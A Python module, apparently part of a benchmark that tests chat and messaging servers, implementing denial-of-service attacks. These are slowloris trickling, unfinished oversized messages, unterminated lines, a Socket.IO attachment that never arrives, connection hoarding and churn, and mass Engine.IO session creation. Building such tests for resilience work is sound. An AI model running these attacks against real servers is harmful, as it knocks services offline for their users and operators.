"""Attacks that begin something and do not end it."""

from __future__ import annotations

import asyncio
import contextlib

from bench.attacks.connection import Connection, NotEntered
from bench.attacks.field import Field
from bench.attacks.frames import TEXT, frame, head
from bench.attacks.wires import request

UNFINISHED = 4 << 20
"""Bytes of a message that each attacker begins, where the server takes so many."""

PINNED = 512
"""Bytes of a line that is not ended."""

HOARDED = 1000
SESSIONS = 10_000


async def unfinished(field: Field) -> None:
    """Everyone sends the beginning of one long message, and waits."""
    people = await field.people()
    if field.wire.key in {"line", "irc"}:
        beginning = b"x" * UNFINISHED
    else:
        prefix = b'42["messages","' if field.wire.key == "socketio" else b'"'
        beginning = head(UNFINISHED + 100, TEXT) + prefix + b"x" * UNFINISHED
    await _hold(field, people, beginning)


async def longest(field: Field) -> None:
    """The same, just below what a message may have at most."""
    people = await field.people()
    size = {"json": 65_000, "socketio": 990_000}.get(field.wire.key, 4000)
    beginning = b"x" * size
    if field.wire.key in {"json", "websocket", "socketio"}:
        beginning = head(size + 100, TEXT) + beginning
    await _hold(field, people, beginning)


async def pinned(field: Field) -> None:
    """Much that is done at once, and behind it the beginning of a line."""
    people = await field.people()
    ends = b"\r\n" if field.irc else b"\n"
    await _hold(field, people, ends * (65_536 // len(ends)) + b"x" * PINNED)


async def _hold(field: Field, people: list[Connection], beginning: bytes) -> None:
    await field.for_seconds(
        *(each.write(beginning) for each in people), *(each.drain() for each in people)
    )


async def attachments(field: Field) -> None:
    """A packet of nearly 1 MB that announces an attachment, which does not come."""
    people = await field.people()
    text = b'451-["x"' + b",{}" * 300_000 + b',{"_placeholder":true,"num":0}]'
    await _hold(field, people, frame(text))


async def slowloris(field: Field) -> None:
    """Request headers, one byte each second."""
    people = await field.sockets()
    text = request("/", field.host, *(f"X-{number}: x" for number in range(100)))

    async def trickle(each: Connection) -> None:
        for at in range(len(text)):
            if not await each.write(text[at : at + 1]):
                return
            await asyncio.sleep(1)

    await field.for_seconds(*map(trickle, people), *(each.drain() for each in people))


async def hoard(field: Field) -> None:
    """Many more connections than usual from one address, which do nothing."""
    people = await field.people(HOARDED)
    await field.for_seconds(*(each.drain() for each in people))


async def churn(field: Field) -> None:
    """Connections that come, enter and go, as fast as they can."""
    count = 0
    field.started()

    async def come_and_go() -> None:
        nonlocal count
        while True:
            try:
                person = await Connection.open(field.target, field.network.attacker())
            except NotEntered as refusal:
                field.refuse(str(refusal))
                continue
            with contextlib.suppress(NotEntered):
                await field.wire.enter(person, field.host, "")
                count += 1
            person.close()

    await field.for_seconds(*(come_and_go() for _ in range(field.connections)))
    field.note(f"{count:,} connections that came and went")


async def handshakes(field: Field) -> None:
    """Many sessions of Engine.IO on one connection, which nobody uses."""
    connection = await field.connect()
    field.started()
    one = request("/socket.io/?EIO=4&transport=polling", field.host)
    answers = bytearray()

    async def read() -> None:
        while data := await connection.read():
            answers.extend(data)

    await field.for_seconds(connection.write(one * SESSIONS), read())
    sessions = answers.count(b'"sid"')
    field.note(f"{sessions:,} of {SESSIONS:,} sessions were opened")
